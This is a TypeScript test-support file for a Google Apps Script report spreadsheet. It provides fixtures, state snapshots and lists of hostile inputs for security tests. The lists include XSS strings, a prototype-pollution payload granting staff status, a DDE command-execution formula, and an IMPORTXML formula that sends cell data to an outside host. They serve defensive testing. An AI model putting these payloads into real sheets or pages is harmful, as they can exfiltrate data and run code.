/**
 * What the tests of the doors share: the people who try, what they try with, and a picture of everything that
 * a try could have changed.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { functionOf, pages } from '../../../src/google/menu';
import { LocalGoogle } from '../../../emulator';
import { CAU_KE, givenOffice, newRow, Office, pushed, STAFF, UNLISTED } from '../../support/office';

/**
 * Every global that Google may call: the functions of src/main.ts, and one for each page of the menu's table.
 */
export const globals = [
  ...[
    ...readFileSync(join(__dirname, '../../../src/main.ts'), 'utf8').matchAll(/^export function (\w+)/gm),
  ].map((match) => match[1]!),
  ...Object.keys(pages).map(functionOf),
];

export const VIEWER = 'nguoi.xem@example.org';
export const STRANGER = 'nguoi.la@example.org';
export const insiders = {
  'a unit': CAU_KE,
  'an editor who is not on the roster': UNLISTED,
  'a member of staff': STAFF,
};

/** What Trà Cú has reported, where two units have. */
export const ofTraCu = {
  address: 'https://www.facebook.com/congdoantracu',
  name: 'Lê Văn Bình',
  phone: '0912876543',
  email: 'binh.le@gmail.com',
  pageName: 'Công đoàn huyện Trà Cú',
};

/**
 * An office with a report in it, where everybody has opened a page of ours.
 * @returns what gives it as new, again and again
 */
export function reportedOffice(): () => Office {
  const office = givenOffice();
  office.cauKe.reports([newRow({}, 'rdoors')]);
  for (const email of Object.values(insiders)) office.clerk(email).opensPage();
  const [saved, files] = [office.google.save(), pushed()];
  return () => new Office(LocalGoogle.restore(saved, files));
}

/**
 * All that is kept: every cell with its formula and note, what protects it, the script's properties, triggers
 * and letters. Made once before a try and once after.
 */
export function everything(office: Office): string {
  const { google } = office;
  const tabs = google.book.tabs().map((name) => {
    const tab = google.book.tab(name);
    const cells = Array.from({ length: tab.lastRow }, (_, r) =>
      Array.from({ length: tab.lastColumn }, (__, c) => {
        const { value, formula, note } = tab.at(r + 1, c + 1);
        return [String(value), formula ?? '', note];
      }),
    );
    return {
      name,
      cells,
      protections: tab.protections,
      rules: tab.conditionalRules.length,
      filter: tab.filter,
    };
  });
  return JSON.stringify({
    tabs,
    // But for when somebody entitled last looked at all reports, which is no content.
    properties: { ...google.scriptProperties, witness: undefined },
    triggers: google.triggers,
    outbox: google.outbox,
  });
}

/**
 * Words of an engine, of our files or of Google's machinery: no person may ever read them in an
 * answer or an alert.
 */
export const INTERNALS =
  /TypeError|ReferenceError|SyntaxError|RangeError|ZodError|Code\.js|is not a function|Cannot read|undefined|\[object|stack|NaN/;

/** What a hostile page might hand to any function. */
export const hostile: unknown[] = [
  undefined,
  null,
  true,
  0,
  -1,
  1e308,
  '',
  'x',
  '__proto__',
  '=1+1',
  '<script>alert(1)</script>',
  [],
  [[]],
  {},
  { length: 1e9 },
  { toString: 'x' },
  { __proto__x: 1 },
  JSON.parse('{"__proto__":{"isStaff":true}}'),
  { range: {}, source: {} },
  { range: 1, source: 'x' },
  { range: { rowStart: 2, rowEnd: 1e9, columnStart: 1, columnEnd: 99 }, source: { toast: 'x' } },
  { source: { getSheetById: 1 } },
  { authMode: 'FULL', triggerUid: '1', user: STAFF },
  'x'.repeat(50_000),
];

/** Texts that some spreadsheet would take for a formula, and markup that some page would run. */
export const formulas = [
  '=IMPORTXML("http://example.com/?"&A1,"//a")',
  '=1+1',
  '+1+1',
  '-1+1',
  '-2',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  "'Ngọc",
  '=HYPERLINK("http://example.com","Bấm")',
  '{=1+1}',
  '=',
  '+',
  '+84 913 456 789',
];
export const markup = '<img src=x onerror=alert(1)><script>alert(1)</script>"\'&amp;</td>';

export const allFormulas = (office: Office): string[] =>
  office.google.book.tabs().flatMap((name) => {
    const tab = office.google.book.tab(name);
    const found: string[] = [];
    for (let row = 1; row <= tab.lastRow; row += 1)
      for (let column = 1; column <= tab.lastColumn; column += 1) {
        const { formula } = tab.at(row, column);
        if (formula !== undefined) found.push(`${name}!${row},${column}: ${formula}`);
      }
    return found;
  });
